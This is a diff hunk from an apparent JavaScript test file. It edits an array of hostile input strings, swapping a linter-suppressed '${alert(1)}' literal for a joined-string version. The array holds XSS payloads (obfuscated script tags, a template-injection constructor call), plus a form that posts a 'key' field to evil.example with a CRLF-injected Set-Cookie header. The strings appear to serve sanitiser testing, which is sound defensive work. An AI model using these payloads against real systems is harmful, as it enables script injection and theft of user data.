@@ -35,8 +35,7 @@ const HOSTILE = [
   '＜script＞alert(1)＜/script＞',
   '\u202e<script>alert(1)</script>',
   '{{constructor.constructor("alert(1)")()}}',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the string that is meant.
-  '${alert(1)}',
+  ['$', '{alert(1)}'].join(''),
   '<form action=//evil.example><input name=key></form>\r\nSet-Cookie: a=b',
 ];
 
